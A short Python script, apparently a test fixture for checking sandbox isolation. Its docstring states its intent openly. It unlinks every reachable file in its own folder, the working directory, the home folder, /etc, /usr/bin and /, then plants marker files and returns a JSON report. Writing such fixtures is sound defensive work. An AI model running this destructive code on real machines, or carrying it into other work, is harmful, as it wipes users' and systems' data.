"""Deletes and writes what it can in its own folder, that of the project and those of the system; then it answers."""

import json
import os
import sys

sys.stdin.readline()
done = []
for folder in (
    os.path.dirname(os.path.abspath(__file__)),
    os.getcwd(),
    os.path.expanduser("~"),
    "/etc",
    "/usr/bin",
    "/",
):
    for name in os.listdir(folder) if os.access(folder, os.R_OK) else ():
        try:
            os.unlink(os.path.join(folder, name))
            done.append(f"{folder}/{name}")
        except OSError:
            pass
    try:
        with open(os.path.join(folder, "left-by-a-stranger"), "w") as file:
            file.write("3")
        done.append(folder)
    except OSError:
        pass
print(json.dumps({"response": [3], "debug": done}))
